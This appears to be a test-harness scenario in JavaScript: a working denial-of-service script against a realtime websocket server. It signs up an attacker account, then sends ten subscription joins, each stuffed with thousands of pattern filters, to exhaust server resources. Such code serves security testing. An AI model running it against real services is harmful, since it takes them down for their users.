import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { get } from 'node:http';

export const name = 'one live join with 3,600 patterns, ten times';

const JOINS = 10;
const FILTERS = 8;
const PATTERNS = 453;

/** Each frame is small; what it asks for must not be. */
export async function attack(server) {
  const attacker = await server.signUp('Asha Attacker');
  const socket = await openSocket(`${server.url}/realtime/v1/websocket?apikey=${server.anonKey}&vsn=2.0.0`);
  let heard = '';
  const answered = new Promise((resolve) => {
    socket.on('data', (data) => {
      heard += data.toString('latin1');
      if (heard.split('phx_reply').length > JOINS) resolve();
    });
    socket.on('close', resolve).on('error', resolve);
  });
  for (let join = 0; join < JOINS; join += 1) {
    const entries = Array.from({ length: FILTERS }, (_, filter) => ({
      event: '*',
      schema: 'public',
      table: 'posts',
      filter: Array.from({ length: PATTERNS }, (_, n) => `content=match.${join}${filter}${n}`)
        .join(',')
        .slice(0, 8192),
    }));
    const payload = { config: { postgres_changes: entries }, access_token: attacker.token };
    socket.write(frame(JSON.stringify([String(join), String(join), `realtime:${join}`, 'phx_join', payload])));
  }
  await answered;
  socket.destroy();
}

async function openSocket(url) {
  const headers = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13' };
  const request = get(url, { headers: { ...headers, 'sec-websocket-key': randomBytes(16).toString('base64') } });
  const [, socket] = await once(request, 'upgrade');
  return socket;
}

/** A text frame as a client sends it, under a mask of zeros. */
function frame(text) {
  const payload = Buffer.from(text);
  const head = Buffer.alloc(14);
  head[0] = 0x81;
  head[1] = 0x80 | 127;
  head.writeBigUInt64BE(BigInt(payload.length), 2);
  return Buffer.concat([head, payload]);
}
